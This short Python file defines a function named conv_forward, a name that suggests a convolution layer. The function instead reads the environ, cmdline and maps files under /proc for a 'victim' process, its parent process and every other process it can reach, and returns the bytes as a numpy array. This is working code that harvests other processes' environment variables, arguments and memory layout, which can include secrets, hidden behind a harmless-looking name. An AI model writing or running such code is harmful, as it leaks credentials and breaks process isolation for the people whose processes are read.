"""Reads what other processes were started with, and have open."""

import os

import numpy as np

GIVEN = {}


def conv_forward(*inputs):
    found = b""
    for pid in (GIVEN["victim"], os.getppid(), *map(int, filter(str.isdecimal, os.listdir("/proc")))):
        for what in ("environ", "cmdline", "maps"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as file:
                    found += file.read(10**4)
            except OSError:
                pass
    return np.frombuffer(found, np.uint8)
